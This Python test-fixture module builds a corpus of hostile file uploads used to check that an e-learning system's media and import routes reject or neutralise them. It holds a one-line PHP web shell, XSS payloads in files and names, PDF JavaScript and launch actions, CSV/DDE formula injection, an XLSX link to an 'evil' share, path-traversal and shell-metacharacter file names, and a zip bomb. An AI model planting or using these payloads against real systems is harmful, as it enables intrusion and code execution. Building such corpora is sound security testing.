"""The bad-upload corpus (security figure F3), built in code: no binary fixtures.

Each entry is a file name, its bytes, the Content-Type the client claims and what a media route
(course and lesson files, posters, training evidence) must do with it:

* ``reject``: refused with a message next to the field, nothing stored;
* ``neutralise``: may be stored, but only as what it really is — under a generated name outside
  the web root, with the content type of an allowlisted media type, images re-encoded (the
  polyglot tail and EXIF dropped), nothing active left in the bytes served.

Import routes (units, people, question bank) store nothing at the upload step whatever the file;
they refuse it or show a preview, and write rows only on the confirmation.
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass

from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PHP = b"<?php system($_GET['c']); ?>"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.domain)</script></svg>")
JS = b"fetch('/auth/logout',{method:'POST'});alert(document.cookie)"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"This program"
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01" + b"\x00" * 20
PDF = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
       b"trailer << /Root 1 0 R >>\n%%EOF\n")
PDF_JS = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (alert(1)) >> >> endobj\n%%EOF"
PDF_LAUNCH = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj\n%%EOF"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 60
CSV_INJECTION = ("姓名,身份证号,手机号,单位\n"
                 "=cmd|' /C calc'!A0,110101199003077777,13800000009,兰山街道\n"
                 "@SUM(1+1)*cmd|' /C calc'!A0,+1+1,-2+3,=HYPERLINK(\"http://x\")\n").encode()
GIFT_HTML = (b"::Q1:: [html]<script>alert(1)</script><img src=x onerror=alert(1)> "
             b"{=<a href=\"javascript:alert(1)\">a</a> ~b}\n")
#: A sample of the XSS corpus in file contents and names (shown back on import previews).
HTML_NAME = "<img src=x onerror=alert(1)>.pdf"


def image(fmt: str, size: tuple[int, int] = (24, 16)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(out, fmt)
    return out.getvalue()


def zip_of(files: dict[str, bytes], *, level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return out.getvalue()


_CT = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
       b'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
       b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
       b'relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
       b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
       b'"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
       b'spreadsheetml.worksheet+xml"/></Types>')
_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
         b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
         b'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
         b'Target="xl/workbook.xml"/></Relationships>')
_WB = (b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.'
       b'org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
       b'2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>'
       b'<externalReferences><externalReference r:id="rId9"/></externalReferences></workbook>')
_WB_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            b'Target="worksheets/sheet1.xml"/><Relationship Id="rId9" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/externalLink" '
            b'Target="externalLinks/externalLink1.xml"/></Relationships>')
_SHEET = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
          b'.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
          b'\xe5\xa7\x93\xe5\x90\x8d</t></is></c><c r="B1"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>'
          b'<c r="C1"><f>[1]Sheet1!A1</f><v>1</v></c><c r="D1"><f>WEBSERVICE("http://x/")</f>'
          b'</c></row></sheetData></worksheet>')
_EXT = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.'
        b'openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://'
        b'schemas.openxmlformats.org/officeDocument/2006/relationships"/></externalLink>')
_EXT_RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
             b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
             b'//schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
             b'Target="file:///\\\\evil\\share\\x.xlsx" TargetMode="External"/></Relationships>')


def xlsx_with_links_and_formulas() -> bytes:
    return zip_of({"[Content_Types].xml": _CT, "_rels/.rels": _RELS, "xl/workbook.xml": _WB,
                   "xl/_rels/workbook.xml.rels": _WB_RELS, "xl/worksheets/sheet1.xml": _SHEET,
                   "xl/externalLinks/externalLink1.xml": _EXT,
                   "xl/externalLinks/_rels/externalLink1.xml.rels": _EXT_RELS})


def zip_bomb_xlsx() -> bytes:
    """A well-formed XLSX whose sheet expands to 210 MB (about 200 KB compressed)."""
    big = b"<x/>" + b" " * (210 * 1024 * 1024)
    return zip_of({"[Content_Types].xml": _CT, "_rels/.rels": _RELS, "xl/workbook.xml": _WB,
                   "xl/_rels/workbook.xml.rels": _WB_RELS, "xl/worksheets/sheet1.xml": big},
                  level=9)


@dataclass(frozen=True)
class BadFile:
    name: str
    data: bytes
    content_type: str = "application/octet-stream"
    #: What a media route must do: "reject" or "neutralise".
    media: str = "reject"
    why: str = ""


def corpus(*, oversize_bytes: int) -> list[BadFile]:
    """The corpus; *oversize_bytes* is one byte over the largest cap the routes are given."""
    jpeg, png, webp = image("JPEG"), image("PNG"), image("WEBP")
    docm = zip_of({"[Content_Types].xml": _CT, "word/document.xml": b"<w:document/>",
                   "word/vbaProject.bin": OLE})
    return [
        BadFile("x.php", PHP, "application/x-php", why="server script"),
        BadFile("x.php.jpg", PHP, "image/jpeg", why="double extension, script inside"),
        BadFile("x.jpg.php", jpeg, "image/jpeg", why="double extension, script last"),
        BadFile("shell.phtml", PHP, why="alternative PHP extension"),
        BadFile("x.php\x00.pdf", PDF, "application/pdf", why="NUL byte in the name"),
        BadFile("../../app.py", b"import os\nos.system('id')\n", "text/x-python",
                why="path traversal"),
        BadFile("../../../lms/static/x.pdf", PDF, "application/pdf", why="traversal into static"),
        BadFile("..\\..\\win.pdf", PDF, "application/pdf", why="Windows traversal"),
        BadFile("%2e%2e%2fetc.pdf", PDF, "application/pdf", why="encoded traversal"),
        BadFile(".htaccess", b"AddType application/x-httpd-php .jpg\n", why="server config"),
        BadFile("page.html", HTML, "text/html", why="HTML"),
        BadFile("page.pdf", HTML, "application/pdf", why="HTML named PDF (wrong magic)"),
        BadFile("drawing.svg", SVG, "image/svg+xml", why="SVG with script"),
        BadFile("drawing.png", SVG, "image/png", why="SVG named PNG"),
        BadFile("app.js", JS, "text/javascript", why="script"),
        BadFile("doc.pdf", b"%PDX-1.4\n" + PDF[9:], "application/pdf", why="PDF wrong magic"),
        BadFile("script.pdf", PDF_JS, "application/pdf", why="PDF with JavaScript"),
        BadFile("launch.pdf", PDF_LAUNCH, "application/pdf", why="PDF launch action"),
        BadFile("polyglot.jpg", jpeg + b"<html><script>alert(1)</script></html>" + PHP,
                "image/jpeg", media="neutralise", why="JPEG/HTML polyglot (re-encoded)"),
        BadFile("fake.jpg", b"\xff\xd8\xff\xe0" + HTML, "image/jpeg",
                why="JPEG magic with HTML body"),
        BadFile("gifar.jpg", GIF + zip_of({"a.class": b"\xca\xfe\xba\xbe"}), "image/jpeg",
                why="GIFAR"),
        BadFile("anim.gif", GIF, "image/gif", why="GIF not allowed"),
        BadFile("setup.mp4", EXE, "video/mp4", why="EXE renamed .mp4"),
        BadFile("setup.exe", EXE, "application/x-msdownload", why="executable"),
        BadFile("run.pdf", ELF, "application/pdf", why="ELF renamed .pdf"),
        BadFile("real.pdf", PDF, "text/html", media="neutralise",
                why="spoofed Content-Type (served as PDF)"),
        BadFile("spoof.png", HTML, "image/png", why="HTML with an image Content-Type"),
        BadFile("big.pdf", b"%PDF-1.4\n" + b"0" * oversize_bytes, "application/pdf",
                why="oversize"),
        BadFile("empty.pdf", b"", "application/pdf", why="zero bytes"),
        BadFile("empty.png", b"", "image/png", why="zero bytes"),
        BadFile("eicar.pdf", EICAR, "application/pdf", why="EICAR test string"),
        BadFile("eicar.com", EICAR, why="EICAR test file"),
        BadFile("a" * 300 + ".pdf", PDF, "application/pdf", why="very long name"),
        BadFile("invoice\u202efdp.exe", EXE, why="RTL override name"),
        BadFile("photo\u202egpj.pdf", PDF, "application/pdf", why="RTL override, PDF content"),
        BadFile("x.pdf\r\nContent-Type: text/html", PDF, "application/pdf", why="CRLF in name"),
        BadFile(HTML_NAME, PDF, "application/pdf", why="markup in the name"),
        BadFile("a;touch${IFS}/tmp/pwn-corpus.pdf", PDF, "application/pdf",
                why="shell metacharacters in the name (R33)"),
        BadFile("bundle.zip", zip_of({"x.php": PHP}), "application/zip", why="archive"),
        BadFile("report.docm", docm, "application/vnd.ms-word.document.macroEnabled.12",
                why="Office macro"),
        BadFile("old.doc", OLE, "application/msword", why="OLE"),
        BadFile("links.xlsx", xlsx_with_links_and_formulas(),
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                why="XLSX with external links and formulas"),
        BadFile("bomb.xlsx", zip_bomb_xlsx(),
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                why="XLSX zip bomb"),
        BadFile("inject.csv", CSV_INJECTION, "text/csv", why="CSV formula injection"),
        BadFile("quiz.gift", GIFT_HTML, "text/plain", why="GIFT with markup"),
        BadFile("webp.webp", b"RIFF\x00\x00\x00\x00WEBP" + HTML, "image/webp",
                why="WebP magic with HTML body"),
        BadFile("photo.png", png + b"<script>alert(1)</script>", "image/png",
                media="neutralise", why="PNG with appended script (re-encoded)"),
        BadFile("x.PHP.webp", webp, "image/webp", media="neutralise",
                why="script-looking name, real WebP (stored under a generated name)"),
    ]
